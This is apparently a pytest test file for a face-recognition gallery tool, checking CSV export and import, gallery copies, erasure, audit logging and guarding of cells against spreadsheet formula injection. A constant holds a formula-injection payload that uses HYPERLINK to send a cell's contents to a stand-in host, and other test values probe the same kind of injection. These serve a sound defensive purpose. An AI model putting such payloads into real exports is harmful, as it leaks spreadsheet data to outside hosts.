from __future__ import annotations

import csv
import re
from collections.abc import Generator, Iterator
from pathlib import Path
from typing import Any

import pytest
from gallery_builders import EMBEDDER, StandInTemplater, add, make_gallery, unit, write_photo
from hypothesis import example, given
from hypothesis import strategies as st

from core.domain.gallery import EnrolStatus
from core.errors import GalleryError, OutputError
from core.gallery.enrol import enrol_photo, import_csv
from core.gallery.export import ExportedPeople, copy_gallery, export_people
from core.gallery.records import GalleryAction
from core.gallery.store import Gallery
from core.gallery.texts import guarded, unguarded

HOSTILE = '=HYPERLINK("http://x/?"&A1;"me")'


@pytest.fixture
def gallery(tmp_path: Path) -> Iterator[Gallery]:
    with make_gallery(tmp_path / "g.db") as opened:
        yield opened


def exported(gallery: Gallery, folder: Path) -> ExportedPeople:
    """The whole export at once."""

    def all_of(work: Generator[Any, None, ExportedPeople]) -> Generator[Any, None, ExportedPeople]:
        return (yield from work)

    work = all_of(export_people(gallery, folder, actor="ann", purpose="case 7"))
    while True:
        try:
            next(work)
        except StopIteration as end:
            return end.value  # type: ignore[no-any-return]


def test_an_exported_list_makes_the_same_people_in_a_new_gallery(gallery: Gallery, tmp_path: Path) -> None:
    templater = StandInTemplater()
    for name, note, basis, seeds in (
        ("Ada Lovelace", 'line 1\nline; 2, "quoted"', "consent", (1, 2)),
        (HOSTILE, "+1 555 0100", "-", (3,)),
        ("王秀英; =1+1", "\t@cmd", "'=quoted", (4,)),
    ):
        for seed in seeds:
            photo = write_photo(tmp_path / f"{seed}.png", seed)
            enrol_photo(gallery, templater, photo, name=name, note=note, basis=basis, actor="ann")
    done = exported(gallery, tmp_path / "out")
    assert (done.n_people, done.n_photos, done.shared_names) == (3, 4, ())
    with make_gallery(tmp_path / "new.db") as new:
        outcomes = list(import_csv(new, templater, done.list_path, actor="bob"))
        assert {o.status for o in outcomes} == {EnrolStatus.ENROLLED}, [o.reason for o in outcomes]
        facts = [(p.name, p.note, p.basis, p.n_templates) for p in new.people()]
    assert facts == [(p.name, p.note, p.basis, p.n_templates) for p in gallery.people()]


def test_no_cell_of_a_list_is_a_formula_wherever_a_spreadsheet_parts_it(gallery: Gallery, tmp_path: Path) -> None:
    person = gallery.add_person(HOSTILE, note="a;=1+1\n=2+2\t@x", basis="＝3", actor="ann")
    gallery.set_legal_hold(person, actor="ann", reason="-4")
    add(gallery, person, unit(1), photo_name="+5.png", photo_sha256="ab" * 32)
    text = exported(gallery, tmp_path / "out").list_path.read_text(encoding="utf-8-sig")
    for delimiter in ",;\t":
        for row in csv.reader(text.splitlines(), delimiter=delimiter):
            for cell in row:
                assert not re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell), (delimiter, cell)


@given(st.text(alphabet=st.sampled_from("=+-@＝;,\t\n\r '\"aé"), max_size=30))
@example("'=1")
@example("''=1")
@example(";;=")
def test_guarding_is_undone_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded("plain text, with - and = inside") == "plain text, with - and = inside"


def test_what_an_import_could_not_tell_apart_is_said(gallery: Gallery, tmp_path: Path) -> None:
    for _ in range(2):
        gallery.add_person("Kim", actor="ann")
    done = exported(gallery, tmp_path / "out")
    assert (done.n_people, done.n_photos, done.shared_names) == (2, 0, ("Kim",))
    with done.list_path.open(encoding="utf-8-sig", newline="") as file:
        assert [(row["name"], row["person"], row["path"]) for row in csv.DictReader(file)] == [
            ("Kim", "1", ""),
            ("Kim", "2", ""),
        ]


def test_an_export_is_in_the_log_and_appears_as_a_whole_or_not_at_all(gallery: Gallery, tmp_path: Path) -> None:
    for n in range(3):
        gallery.add_person(f"P{n}", actor="ann")
    started = export_people(gallery, tmp_path / "out", actor="ann")
    assert next(started) == (1, 3)
    started.close()
    assert [p.name for p in tmp_path.iterdir() if "out" in p.name] == []
    exported(gallery, tmp_path / "out")
    last = gallery.audit()[-1]
    assert (last.action, last.actor, last.basis) == (GalleryAction.EXPORTED, "ann", "case 7")
    assert [e.action for e in gallery.audit()].count(GalleryAction.EXPORTED) == 1
    with pytest.raises(OutputError, match="there already"):
        exported(gallery, tmp_path / "out")
    with pytest.raises(OutputError, match="cannot be written"):
        exported(gallery, tmp_path / "no folder" / "out")


def test_a_copy_is_a_gallery_with_all_that_is_in_it(gallery: Gallery, tmp_path: Path) -> None:
    person = gallery.add_person("Ada", note="n", actor="ann")
    add(gallery, person, unit(1))
    target = tmp_path / "copy of it.db"
    copy_gallery(gallery, target, actor="ann", purpose="case 7")
    with Gallery.open(target, create=False, embedder_id=EMBEDDER) as copy:
        assert copy.people() == gallery.people()
        assert [e.action for e in copy.audit()][-1] == GalleryAction.EXPORTED
        assert copy.altered_audit_entries() == []
    assert not list(tmp_path.glob("*.part"))


def test_a_copy_holds_nothing_of_the_erased(gallery: Gallery, tmp_path: Path) -> None:
    gallery.erase_person(gallery.add_person("Zyxwvut", actor="ann"), actor="ann", reason="request")
    copy_gallery(gallery, tmp_path / "copy.db", actor="ann")
    assert b"Zyxwvut" not in (tmp_path / "copy.db").read_bytes()


def test_a_copy_replaces_nothing(gallery: Gallery, tmp_path: Path) -> None:
    for path in (gallery.path, tmp_path / "other.txt"):
        path.exists() or path.write_text("mine")
        before = path.read_bytes()
        with pytest.raises(OutputError, match="there already"):
            copy_gallery(gallery, path, actor="ann")
        assert path.read_bytes() == before
    with pytest.raises(OutputError, match="cannot be written"):
        copy_gallery(gallery, tmp_path / "no folder" / "copy.db", actor="ann")
    assert GalleryAction.EXPORTED not in [e.action for e in gallery.audit()]


def test_nothing_leaves_a_gallery_that_cannot_log_it(gallery: Gallery, tmp_path: Path) -> None:
    gallery.add_person("Ada", actor="ann")
    with gallery.transaction() as db:
        db.execute("CREATE TRIGGER full BEFORE INSERT ON audit BEGIN SELECT RAISE(ABORT, 'no'); END")
    with pytest.raises(Exception, match="no"):
        exported(gallery, tmp_path / "out")
    with pytest.raises(Exception, match="no"):
        copy_gallery(gallery, tmp_path / "copy.db", actor="ann")
    assert not (tmp_path / "out").exists()
    assert not (tmp_path / "copy.db").exists()
    with pytest.raises(GalleryError):
        Gallery.open(tmp_path / "copy.db", create=False, embedder_id=None)
